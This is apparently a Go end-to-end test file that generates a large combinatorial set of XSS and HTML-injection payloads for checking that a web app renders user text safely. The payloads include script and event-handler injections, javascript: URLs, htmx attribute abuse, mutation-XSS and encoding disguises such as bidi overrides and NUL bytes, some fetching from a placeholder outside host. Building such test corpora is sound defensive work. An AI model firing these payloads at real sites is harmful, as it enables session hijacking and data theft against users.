package e2e

import (
	"fmt"
	"html"
	"strconv"
	"strings"
	"unicode"

	"tagline/textutil"
)

// hostile is what somebody writes who wants a page to take their words for its own. Whatever becomes an element or an
// attribute carries data-hostile; whatever runs calls alert; whatever is fetched comes from elsewhere.

// leavings end what the words may stand in: a text, an attribute, a comment, an element that holds no others, a
// template.
var leavings = []string{"", `">`, `'>`, " ", "-->", "</title>", "</textarea>", "</script>", "</template>", "}}"}

// attempts are what would then begin. {n} is the payload's number, {elsewhere} is elsewhere.
var attempts = []string{
	`<script data-hostile>alert({n})</script>`,
	`<img data-hostile src=//{elsewhere}/{n} onerror=alert({n})>`,
	`<svg data-hostile onload=alert({n})>`,
	`<iframe data-hostile srcdoc="<script src=//{elsewhere}/{n}></script>"></iframe>`,
	`<a data-hostile href="javascript:alert({n})">open</a>`,
	`<base data-hostile href=//{elsewhere}/{n}/>`,
	`<meta data-hostile http-equiv=refresh content="0;url=//{elsewhere}/{n}">`,
	`<form data-hostile action=//{elsewhere}/{n}><button autofocus onfocus=alert({n})>`,
	`<link data-hostile rel=stylesheet href=//{elsewhere}/{n}>`,
	`<style data-hostile>@import "//{elsewhere}/{n}";</style>`,
	`<object data-hostile data=//{elsewhere}/{n}></object>`,
	`<hx-partial data-hostile hx-target="body" hx-swap="innerHTML">{n}</hx-partial>`,
	`<div data-hostile hx-get="//{elsewhere}/{n}" hx-trigger="load">`,
	`<div data-hostile id="thread" hx-swap-oob="true" hx-on:click="alert({n})">`,
	`<details data-hostile open ontoggle=alert({n})>`,
	`<math data-hostile><mtext><table><mglyph><style><img src=//{elsewhere}/{n} onerror=alert({n})>`,
	`" data-hostile autofocus onfocus="alert({n})" x="`,
	`' data-hostile autofocus onfocus='alert({n})' x='`,
	`http://{elsewhere}/{n}"data-hostile="x"onmouseover="alert({n})`,
	`javascript:alert({n})//http://{elsewhere}/{n}'data-hostile='x`,
	`{"content":"<img data-hostile src=//{elsewhere}/{n}>","target":"body","swap":"innerHTML","payload":{n}}`,
}

// disguises get past what looks for the plain form.
var disguises = []func(string) string{
	func(s string) string { return s },
	html.EscapeString,
	func(s string) string { return strings.ToUpper(strings.ReplaceAll(s, " data", "/\fdata")) },
	func(s string) string { return "\u202e" + strings.ReplaceAll(s, "<", "<\x00") },
	func(s string) string {
		return strings.NewReplacer("<", `\u003c`, ">", "%3e", `"`, "&#x22;", "'", "&apos").Replace(s)
	},
}

// hostile is every attempt after every leaving in every disguise.
func hostile(elsewhere string) []string {
	var all []string
	for _, leaving := range leavings {
		for _, attempt := range attempts {
			for _, disguise := range disguises {
				all = append(all, fmt.Sprint(len(all), disguise(leaving+strings.NewReplacer("{n}", strconv.Itoa(len(all)), "{elsewhere}", elsewhere).Replace(attempt))))
			}
		}
	}
	return all
}

// drawn is how a page shows a text: control characters as pictures.
func drawn(s string) string {
	return strings.Map(func(r rune) rune {
		if r < ' ' && !strings.ContainsRune("\n\r\t", r) {
			return '\u2400' + r
		}
		return r
	}, s)
}

// inLine is how a page shows a name, a tag or a sender: in its one form, and its beginning where it is long.
func inLine(s string) string {
	s = textutil.Label(s)
	if all := []rune(s); len(all) > 80 {
		return string(all[:80]) + "…"
	}
	return s
}

// titled is how a title says a name: what would turn the words around is left out.
func titled(s string) string {
	return strings.Map(func(r rune) rune {
		if unicode.Is(unicode.Bidi_Control, r) {
			return -1
		}
		return r
	}, inLine(s))
}
